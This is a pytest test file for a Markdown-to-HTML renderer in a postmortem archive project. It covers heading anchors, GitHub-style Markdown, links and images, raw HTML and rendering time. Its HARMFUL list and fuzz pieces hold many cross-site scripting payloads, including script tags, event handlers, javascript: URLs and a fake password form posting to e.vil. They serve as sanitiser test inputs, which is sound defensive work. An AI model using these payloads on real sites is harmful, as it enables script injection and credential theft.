"""A body becomes the HTML that GitHub would show, in Material's markup, and nothing harmful."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from postmortem_archive import markdown
from postmortem_archive.pages.body import Heading, RenderedBody, code, render
from postmortem_archive.pages.body.sanitise import AUTHOR_TAGS


def resolve(target: str) -> str | None:
    return None if "missing" in target else f"../{target}"


def shown(text: str) -> RenderedBody:
    return render(text, resolve)


def html(text: str) -> str:
    return shown(text).html.strip()


def permalink(anchor: str) -> str:
    return f'<a class="headerlink" href="#{anchor}" title="Permanent link">¶</a>'


REL = ' rel="noopener noreferrer"'


# Headings


@pytest.mark.parametrize(
    ("title", "anchor"),
    [
        ("Root cause", "root-cause"),
        ("What went well & what didn't?", "what-went-well--what-didnt"),
        ("5 Whys: `order_service`", "5-whys-order_service"),
        ("Überlast im Café", "überlast-im-café"),
        ("Ca\u0301fe \u0939\u093f\u0928", "ca\u0301fe-\u0939\u093f\u0928"),
        ("10² m² ½", "10-m-"),
        ("原因 🎉", "原因-"),
        ("a-b_c – d", "a-b_c--d"),
        ("🎉", "section"),
        # Material's own ids begin so, and its script would take the heading for its settings.
        ("__config", "config"),
    ],
)
def test_anchors_are_those_of_github(title: str, anchor: str) -> None:
    assert markdown.Anchors().of(title) == anchor


def test_equal_anchors_are_numbered_and_never_collide() -> None:
    anchors = markdown.Anchors()
    titles = ["Foo", "foo", "foo-1", "FOO", "foo-1"]
    assert [anchors.of(t) for t in titles] == ["foo", "foo-1", "foo-1-1", "foo-2", "foo-1-2"]


@pytest.mark.parametrize(
    ("text", "inner", "anchor"),
    [
        ("## A **b** `c`", "A <strong>b</strong> <code>c</code>", "a-b-c"),
        ("## A ##", "A", "a"),
        ("## A {#x .y}", "A {#x .y}", "a-x-y"),
        ("## A\\", "A\\", "a"),
        ("A\nb\n---", "A\nb", "a-b"),
        ("## [A](b.md)", '<a href="../b.md">A</a>', "a"),
        ("## a <b>c", "a <b>c</b>", "a-c"),
        ("## x <!-- y -->", "x ", "x"),
        ("## 1 < 2 & `<p>`", "1 &lt; 2 &amp; <code>&lt;p&gt;</code>", "1--2--p"),
    ],
)
def test_headings(text: str, inner: str, anchor: str) -> None:
    assert html(text) == f'<h2 id="{anchor}">{inner}{permalink(anchor)}</h2>'
    assert [h.anchor for h in shown(text).headings] == [anchor]


def test_headings_are_listed_with_plain_titles_wherever_they_stand() -> None:
    body = shown("## A *b*  c\n\n> ### D\n\n- # E &amp; f\n\n## A b c\n\n## ![alt](x)\n\n##\n")
    assert body.headings == (
        Heading(2, "A b c", "a-b-c"),
        Heading(3, "D", "d"),
        Heading(1, "E & f", "e--f"),
        Heading(2, "A b c", "a-b-c-1"),
    )
    assert '<h2 id="section-1">' in body.html


def test_a_title_at_the_top_is_left_out_but_keeps_its_anchor() -> None:
    body = shown("<!-- guidance -->\n\n# Timeline <b>of\n\n# Timeline\n\n## Timeline of")
    assert [h.anchor for h in body.headings] == ["timeline", "timeline-of-1"]
    assert body.html.strip().startswith('<h1 id="timeline">')
    assert "</b>" not in body.html


@pytest.mark.parametrize("text", ["Text\n\n# A", "## B\n\n# A", "> # A", "***\n# A"])
def test_a_title_elsewhere_stays(text: str) -> None:
    assert '<h1 id="a">' in html(text)


# GitHub's Markdown in Material's markup


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # A list needs no blank line before it; Python-Markdown wants one.
        ("Text:\n- a\n- b", "<p>Text:</p>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("a\nb  \nc", "<p>a\nb<br>\nc</p>"),
        ("~~a~~ <kbd>b</kbd> \\* &copy; x^2", "<p><del>a</del> <kbd>b</kbd> * © x^2</p>"),
        ("a\n\n***\n\n> b", "<p>a</p>\n<hr>\n<blockquote>\n<p>b</p>\n</blockquote>"),
        (
            "|a|b|c|\n|:-|-:|:-:|\n|1|`x\\|y`|\n",
            "<table>\n<thead>\n"
            '<tr><th style="text-align:left">a</th><th style="text-align:right">b</th>'
            '<th style="text-align:center">c</th></tr>\n</thead>\n<tbody>\n'
            '<tr><td style="text-align:left">1</td>'
            '<td style="text-align:right"><code>x|y</code></td>'
            '<td style="text-align:center"></td></tr>\n</tbody>\n</table>',
        ),
        (
            "> [!WARNING]\n> a",
            '<div class="admonition warning">\n<p class="admonition-title">Warning</p>\n'
            "<p>a</p>\n</div>",
        ),
    ],
)
def test_markdown(text: str, expected: str) -> None:
    assert html(text) == expected


@pytest.mark.parametrize(
    ("alert", "kind"),
    [("NOTE", "note"), ("TIP", "tip"), ("IMPORTANT", "info"), ("CAUTION", "danger")],
)
def test_alerts_keep_their_name(alert: str, kind: str) -> None:
    title = f'<p class="admonition-title">{alert.capitalize()}</p>'
    assert f'<div class="admonition {kind}">\n{title}' in html(f"> [!{alert}]\n> a")


@pytest.mark.parametrize(
    "text", ["- [x] a\n- [ ] b\n- c", "- [x] a\n\n- [ ] b\n- c", "1. [x] a\n2. [ ] b\n3. c"]
)
def test_task_lists_have_boxes(text: str) -> None:
    found = html(text)
    assert found.count('class="task-list"') == 1
    assert found.count('<li class="task-list-item">') == 2
    assert found.count('<input type="checkbox" disabled="" checked="" aria-label="Done">') == 1
    assert found.count('<span class="task-list-indicator"></span></label> ') == 2


def test_only_the_list_with_boxes_is_a_task_list() -> None:
    found = html("- a\n  - [ ] b\n- c\n  1. [x] d\n- # [x] e")
    assert found.startswith("<ul>\n<li>a<ul class=")
    assert '<ol class="task-list">' in found


def test_footnotes_stand_at_the_end_in_the_order_of_their_mention() -> None:
    found = html("a[^y] b[^x] c[^Y]\n\n[^x]: X\n\n[^y]: Y\n\n    - z\n\n[^n]: never\n\n## fn:1\n")
    assert found.endswith(
        '<div class="footnote">\n<hr>\n<ol>\n<li id="fn:1">\n<p>Y</p>\n<ul>\n<li>z</li>\n</ul>\n'
        '<p>&nbsp;<a class="footnote-backref" href="#fnref:1"'
        ' title="Jump back to footnote 1 in the text">↩</a>'
        '&nbsp;<a class="footnote-backref" href="#fnref2:1"'
        ' title="Jump back to footnote 1 in the text">↩</a></p>\n</li>\n'
        '<li id="fn:2">\n<p>X&nbsp;<a class="footnote-backref" href="#fnref:2"'
        ' title="Jump back to footnote 2 in the text">↩</a></p>\n</li>\n</ol>\n</div>'
    )
    assert found.startswith(
        '<p>a<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>'
    )
    assert "never" not in found
    assert '<h2 id="fn1">' in found


# Code


def test_code_is_coloured_in_the_frame_that_material_styles() -> None:
    assert html("```Python title\nx = 1\n```") == (
        '<div class="language-python highlight"><pre><span></span><code>'
        '<span class="n">x</span> <span class="o">=</span> <span class="mi">1</span>\n'
        "</code></pre></div>"
    )


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("```\n<b> & \"q\"\n```", "text"),
        ("    <b> & \"q\"\n", "text"),
        ("```nonsense\n<b> & \"q\"\n```", "nonsense"),
        ('```"><script>\n<b> & "q"\n```', "text"),
        ("~~~{.python}\n<b> & \"q\"\n~~~", "text"),
        # Its lexer needs minutes for a page of short lines.
        ("```csharp\n<b> & \"q\"\n```", "csharp"),
    ],
)  # fmt: skip
def test_other_code_is_only_escaped(text: str, language: str) -> None:
    assert html(text) == (
        f'<div class="language-{language} highlight"><pre><span></span><code>'
        '&lt;b&gt; &amp; "q"\n</code></pre></div>'
    )


@pytest.mark.parametrize(
    "language", ["sh", "yml", "js", "json", "sql", "hcl", "dockerfile", "diff"]
)
def test_languages_are_known_by_their_usual_names(language: str) -> None:
    assert "<span class=" in html(f"```{language}\n+1 'a'\n```")


def test_every_listed_language_is_one_of_pygments() -> None:
    assert [name for name in code._STEADY if code._lexer(name) is None] == []


@pytest.mark.parametrize("long", ["x = 1\n" * 1_100, "x" * 301])
def test_long_code_is_not_coloured(long: str) -> None:
    assert 'class="n"' not in html(f"```python\n{long}\n```")


def test_a_body_has_its_share_of_colour() -> None:
    block = "```python\n" + "x = 1\n" * 900 + "```\n\n"
    blocks = html(block * 20).split('<div class="')
    assert ['class="n"' in each for each in blocks] == [False] + [True] * 4 + [False] * 16


def test_leading_lines_of_code_stay() -> None:
    assert "<code>\n\n<span" in html("```python\n\n\nx\n```")


def test_mermaid_is_left_to_material() -> None:
    body = shown("``` Mermaid\na --> b\n```")
    assert body.html == '<pre class="mermaid"><code>a --&gt; b\n</code></pre>\n'
    assert body.has_diagrams
    assert not shown("```\nmermaid\n```").has_diagrams


# Links and images


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[a](b.md#c)", '<a href="../b.md#c">a</a>'),
        ("[a](missing.md)", "<a>a</a>"),
        ("[a]()", "<a>a</a>"),
        ("[a](#b)", '<a href="#b">a</a>'),
        ('[a](https://b.c/?d=1&e "T")', f'<a href="https://b.c/?d=1&amp;e" title="T"{REL}>a</a>'),
        ("[a](//b.c)", f'<a href="https://b.c"{REL}>a</a>'),
        ("<mailto:a@b.c> <a@b.c>", '<a href="mailto:a@b.c">mailto:a@b.c</a> '
         '<a href="mailto:a@b.c">a@b.c</a>'),
        ("[a](javascript:b)", "<a>a</a>"),
        ("[a](ftp://b.c)", "<a>a</a>"),
        ("![a *b*](c.png 'T')", '<img src="../c.png" alt="a b" title="T">'),
        ("![a](missing.png)", "a"),
        ("![a](data:image/png;base64,x)", "a"),
        ("![a](https://b.c/d.png)", f'<a href="https://b.c/d.png"{REL}>a</a>'),
        ("![](https://b.c/d.png)", f'<a href="https://b.c/d.png"{REL}>https://b.c/d.png</a>'),
        ("![a](\\\\\\\\b.c/d.png)", f'<a href="https://b.c/d.png"{REL}>a</a>'),
        ("[![a](https://b.c/d.png)](e)", '<a href="../e">a</a>'),
        ("[![a](d.png)](e)", '<a href="../e"><img src="../d.png" alt="a"></a>'),
        ('<a href="e">![a](https://b.c/d.png)</a>', '<a href="../e">a</a>'),
        ('<img src="d.png" width="9">', '<img src="../d.png" alt="" width="9">'),
        ('<img alt="a" src="//b.c/d.png" srcset="//b.c/e 2x">', f'<a href="https://b.c/d.png"{REL}>a</a>'),
        ("[a](#__config)", '<a href="#config">a</a>'),
        ("![<b>a</b>](c.png)", '<img src="../c.png" alt="a">'),
    ],
)  # fmt: skip
def test_links_and_images(text: str, expected: str) -> None:
    assert html(text).removeprefix("<p>").removesuffix("</p>") == expected


def linked(address: str, to: str = "") -> str:
    return f'<a href="{to or address}"{"" if to.startswith("mailto") else REL}>{address}</a>'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://a.b", linked("https://a.b")),
        ("See www.a.b/c.", f"See {linked('www.a.b/c', 'http://www.a.b/c')}."),
        ("(http://a.b/c_(d))", f"({linked('http://a.b/c_(d)')})"),
        ("**https://a.b**, *https://a.b*", f"<strong>{linked('https://a.b')}</strong>, "
         f"<em>{linked('https://a.b')}</em>"),
        # The parser alone takes these for emphasis.
        ("https://a.b/*/c* _d_", f"{linked('https://a.b/*/c')}* <em>d</em>"),
        ("https://a.b/_c_/~d~/e", linked("https://a.b/_c_/~d~/e")),
        ("http://a.b?c=&amp;d&copy;", f"{linked('http://a.b?c=&amp;amp;d')}©"),
        ("https://a.b<br>c", f"{linked('https://a.b')}<br>c"),
        ("wow!https://a.b", f"wow!{linked('https://a.b')}"),
        ("\\https://a.b", f"\\{linked('https://a.b')}"),
        ("https://a.b/c&d;e", linked("https://a.b/c&amp;d;e")),
        ("http://localhost:80/é", linked("http://localhost:80/é")),
        ("a.b-c@d.e, @f", f"{linked('a.b-c@d.e', 'mailto:a.b-c@d.e')}, @f"),
        ("`https://a.b` [www.a.b](c)", '<code>https://a.b</code> <a href="../c">www.a.b</a>'),
        ('<a href="c">https://a.b</a>', '<a href="../c">https://a.b</a>'),
        ("xhttps://a.b awww.a.b http://a_b.c", "xhttps://a.b awww.a.b http://a_b.c"),
    ],
)  # fmt: skip
def test_bare_addresses_become_links(text: str, expected: str) -> None:
    assert html(text) == f"<p>{expected}</p>"


def test_a_bare_address_ends_with_its_cell() -> None:
    found = html("|a|\n|-|\n|https://a.b/c|\n|www.a.b\\|c|\n")
    assert f"<td>{linked('https://a.b/c')}</td>" in found
    assert f"<td>{linked('www.a.b', 'http://www.a.b')}|c</td>" in found


# Raw HTML


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "<details open>\n<summary>a</summary>\n\n- b\n\n</details>\n\nc",
            '<details open="">\n<summary>a</summary>\n<ul>\n<li>b</li>\n</ul>\n</details>\n'
            "<p>c</p>",
        ),
        (
            "- a <details><summary>b</summary>\n\n  c\n\n  </details>\n\nd",
            "<ul>\n<li><p>a </p><details><summary>b</summary><p></p>\n<p>c</p>\n</details>\n"
            "</li>\n</ul>\n<p>d</p>",
        ),
        ("a <!-- b --> c\n\n<!-- d\n\ne -->\nf", "<p>a  c</p>\n\n<p>f</p>"),
        ('<p align="center">a</p>', '<p align="center">a</p>'),
        # A value that means nothing to a browser is left out, so that the page stays valid.
        ('<ol start="x" reversed type=i><li value="3">a</li></ol>',
         '<ol reversed="" type="i"><li value="3">a</li></ol>'),
        ('<p dir="up" lang="he">a</p>', '<p lang="he">a</p>'),
        ('[a](<https://b.c/?d="e" f>)',
         '<p><a href="https://b.c/?d=%22e%22%20f" rel="noopener noreferrer">a</a></p>'),
        ("a <hostname> b", "<p>a  b</p>"),
        ("- </li></ul></div>a\n- <div>b\n\nc",
         "<ul>\n<li>a\n</li>\n<li><div>b\n</div></li>\n</ul>\n<p>c</p>"),
        # What is left open stays so until its container ends, on GitHub and here.
        ("> a <b>c\n>\n> d\n\ne",
         "<blockquote>\n<p>a <b>c</b></p><b>\n<p>d</p>\n</b></blockquote>\n<p>e</p>"),
        ("<table><tr><td>a<tr><td>\n\n*b*\n\n</table>\n\nc",
         "<table><tbody><tr><td>a</td></tr><tr><td>\n<p><em>b</em></p>\n</td></tr></tbody></table>\n"
         "<p>c</p>"),
        ("<table>\n\na", "<table>\n</table><p>a</p>"),
        # As in GitHub's "tagfilter" extension.
        ("<script>a</script>", "&lt;script&gt;a&lt;/script&gt;"),
        ("<a id=x></a><a name='y'></a> [a](#x) [b](#y) [c](#z)",
         '<p><a id="user-content-x"></a><a id="user-content-y"></a> '
         '<a href="#user-content-x">a</a> <a href="#user-content-y">b</a> <a href="#z">c</a></p>'),
        ('<a id="x"></a>\n## x\n\n[a](#x)',
         '<p><a id="user-content-x"></a></p>\n'
         f'<h2 id="x">x{permalink("x")}</h2>\n<p><a href="#x">a</a></p>'),
        ('<a title="&quot;&lt;&copy=1" title="b">c</a>',
         '<p><a title="&quot;&lt;&amp;copy=1">c</a></p>'),
        ("<div\n<b>\n", "&lt;div\n<b>\n</b>"),
    ],
)  # fmt: skip
def test_raw_html(text: str, expected: str) -> None:
    assert html(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        '<div class="md-header admonition highlight mermaid">a</div>',
        '<div id="__search" style="position:fixed" onclick="a()">a</div>',
        '<pre class="mermaid">a</pre>',
        '<span data-md-component="search" role="button" tabindex="1" hidden>a</span>',
        '<td style="text-align:right">a',
    ],
)
def test_an_authors_html_cannot_pass_for_the_pages_own(text: str) -> None:
    found = html(text + "\n\n" + text.replace("<", "x <", 1))
    for part in ("class=", "style=", "onclick", "data-", "role=", 'id="_', "hidden", "tabindex"):
        assert part not in found
    assert not shown(text).has_diagrams


# Harm

# Each tag that may leave, with what else may be on it besides an author's attributes.
OWN_CLASSES = {
    "admonition", "admonition-title", "danger", "footnote", "footnote-backref", "footnote-ref",
    "headerlink", "highlight", "info", "mermaid", "note", "task-list", "task-list-control",
    "task-list-indicator", "task-list-item", "tip", "warning",
}  # fmt: skip
OWN_ATTRIBUTES = {
    "align", "alt", "aria-label", "checked", "class", "colspan", "datetime", "dir", "disabled",
    "height", "href", "id", "lang", "open", "rel", "reversed", "rowspan", "scope", "src", "start",
    "style", "title", "type", "value", "width",
}  # fmt: skip


class Inspector(HTMLParser):
    """Complains of everything on a page that can run, load, disguise itself, or is not closed."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.deepest = 0
        self.feed(page)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in AUTHOR_TAGS | {"input", "label"}
        for name, value in attrs:
            assert name in OWN_ATTRIBUTES
            self.inspect(tag, name, value or "")
        if tag == "input":
            assert {("type", "checkbox"), ("disabled", "")} <= set(attrs)
        if tag not in ("br", "hr", "img", "input", "wbr"):
            self.open.append(tag)
            self.deepest = max(self.deepest, len(self.open))

    def inspect(self, tag: str, name: str, value: str) -> None:
        if name == "src":
            assert tag == "img"
            assert value.startswith("../")
        elif name == "href":
            assert value.startswith(("../", "#", "https:", "http:", "mailto:", "HTTP"))
        elif name == "style":
            assert value in ("text-align:left", "text-align:right", "text-align:center")
        elif name == "id":
            assert not value.startswith("__")
        elif name == "class" and not value.startswith("language-") and tag != "span":
            assert set(value.split()) <= OWN_CLASSES
        elif name == "class" and tag == "span":
            assert "md-" not in value

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


HARMFUL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//e.vil/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"//',
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src='//e.vil/p.png'>",
    "<img src='/\\e.vil/p.png'>",
    "<img src='\thttps://e.vil/p.png'>",
    "<img src='ht\ntps://e.vil/p.png'>",
    "<img src=x srcset='https://e.vil/p.png 2x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//e.vil/x.swf></object><embed src=//e.vil/x.swf>",
    "<form action=//e.vil><input type=password name=p><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1)><option>x</select>",
    "<textarea></textarea><textarea><b>",
    "<video src=//e.vil/x.mp4 onerror=alert(1)></video>",
    "<audio src=//e.vil/x.mp3 autoplay>",
    "<picture><source srcset=//e.vil/x.png><img src=x></picture>",
    "<body onload=alert(1)>",
    "<base href=//e.vil/>",
    "<meta http-equiv=refresh content='0;url=//e.vil'>",
    "<link rel=stylesheet href=//e.vil/x.css>",
    "<style>@import '//e.vil/x.css'</style>",
    "<div style='background:url(//e.vil/x.png)'>x</div>",
    "<td style='text-align:right;background:url(//e.vil/x)'>",
    "<table background=//e.vil/x.png><td background=//e.vil/x.png>",
    "<details ontoggle=alert(1) open>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='x' ping='//e.vil' target=_blank>x</a>",
    '<a title="</a><script>alert(1)</script>">x</a>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><b>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><script>alert(1)</script></title>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<b onmouseover=alert(1)>x</b>",
    "<p/onclick=alert(1)>x",
    "<x-y onclick=alert(1)>x</x-y>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    '[x](https://e.vil "onclick=\\"alert(1)\\"")',
    "<javascript:alert(1)>",
    "![x](https://e.vil/p.png)",
    "![x](//e.vil/p.png)",
    '![x" onerror="alert(1)](y)',
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[r]\n\n[r]: javascript:alert(1)",
    "```mermaid\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    '```"onload="x\na\n```',
    '## <img src=x onerror=alert(1)> "onclick="alert(1)',
    '[^"onclick=]\n\n[^"onclick=]: <script>alert(1)</script>',
    "https://e.vil/\"onclick=alert(1)",
    "https://e.vil/<script>alert(1)</script>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "- [ ] <input type=text name=x>",
    "<div><table><tr><td></div><script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("text", HARMFUL)
def test_nothing_harmful_is_left(text: str) -> None:
    Inspector(html(text))
    Inspector(html(f"a {text} b"))
    Inspector(html(f"<div>\n{text}\n</div>\n\n> - {text}\n\n<b>{text}"))


PIECES = st.sampled_from(
    [
        "a", " ", "\n", "\n\n", "# ", "## ", "- ", "1. ", "> ", "    ", "\t", "*", "**", "_", "~~",
        "`", "```", "```python\n", "```mermaid\n", "[", "]", "](x)", "](https://e.vil)", "![", "|",
        "\n|-|-|\n", "[ ] ", "[x] ", "[^1]", "\n[^1]: ", "[r]: javascript:x\n", "[!NOTE]\n", "\\",
        "!", "https://a.b", "www.a.b", "c@d.e", "&lt;", "&#106;", "\0", "\r", "é", "---\n", "===\n",
        "<", ">", "<b>", "</b>", "<a href=x>", "<a id=x>", "</a>", "<p>", "</p>", "<div>", "</div>",
        "<table>", "<tr>", "<td>", "</table>", "<details>", "</details>", "<img src=//e.vil>",
        "<!--", "-->", "<script>", "</script>", "<svg>", "<style>", "<math>", "<li>", "</li>",
        "</ul>", "<br>", '"', "'", "=", " onclick=x", ' class="md-x"', "<!", "<?", "<pre>",
        "<code>", "<summary>",
    ]
)  # fmt: skip


@given(st.text())
def test_no_text_makes_rendering_raise(text: str) -> None:
    Inspector(html(text))


@settings(max_examples=500)
@given(st.lists(PIECES | st.text(max_size=3), max_size=60))
def test_no_markdown_makes_rendering_raise_or_do_harm(pieces: list[str]) -> None:
    Inspector(html("".join(pieces)))
    Inspector(html("<div>\n" + "".join(pieces)))


@given(st.lists(PIECES, max_size=40))
def test_rendering_is_deterministic_and_anchors_are_unique(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert shown(text) == shown(text)
    anchors = [heading.anchor for heading in shown(text).headings]
    assert len(anchors) == len(set(anchors))


def test_half_a_character_is_replaced() -> None:
    assert html("a\ud800b\0") == "<p>a?b\ufffd</p>"


# Time and depth

REPEATED = {
    "brackets": "[", "images": "![", "links": "a](", "asterisks": "*a ", "quotations": "> ",
    "lists": "- ", "quoted lists": "> - ", "footnotes": "[^1]: ", "angles": "<", "ampersands": "&",
    "comments": "<!--", "declarations": "x <!A ", "tags": "x <a b=\"", "quotes": "<a x='<a x=\"",
    "divisions": "<div>", "spread divisions": "<div>\n\n", "bold": "<b>",
    "spread bold": "<b>\n\nx\n\n", "names": "_www.", "short names": "(www.a_b ",
    "tables": "<table>", "cells": "<table><td>", "rows": "<tr><td>x", "ends": "</div>",
    "astray in a table": "<br>x", "headings": "# a\n", "addresses": "https://a.b ",
    "hosts": "https://a_.", "parentheses": ")", "entities": "&a;", "mail": "a@", "colours": "\n \n",
    "tildes": "~", "pipes": "|", "backslashes": "\\", "tasks": "- [ ] a\n", "jumps": "[a](#x)",
}  # fmt: skip
BEFORE = {
    "astray in a table": "<table>", "rows": "<table>", "parentheses": "https://a.b",
    "entities": "https://a.b", "colours": "```java\n", "jumps": "<a id=x></a>",
}  # fmt: skip


def seconds(text: str) -> float:
    start = time.process_time()
    shown(text)
    return time.process_time() - start


@pytest.mark.parametrize("name", REPEATED)
def test_time_grows_with_length_and_no_faster(name: str) -> None:
    def text(length: int) -> str:
        return BEFORE.get(name, "") + REPEATED[name] * (length // len(REPEATED[name]))

    short = max(min(seconds(text(30_000)) for _ in range(3)), 0.02)
    # Four times the text: quadratic time would be 16 times as much.
    assert min(seconds(text(120_000)) for _ in range(2)) < 10 * short


@pytest.mark.parametrize(
    "text",
    ["> " * 20_000 + "a", "- " * 20_000 + "a", "<div>" * 20_000, "*a " * 20_000 + "b*" * 20_000,
     "> <div>\n" * 5_000, "<ul><li>\n\n- " * 5_000],
)  # fmt: skip
def test_no_text_nests_deep(text: str) -> None:
    assert Inspector(html(text)).deepest < 250
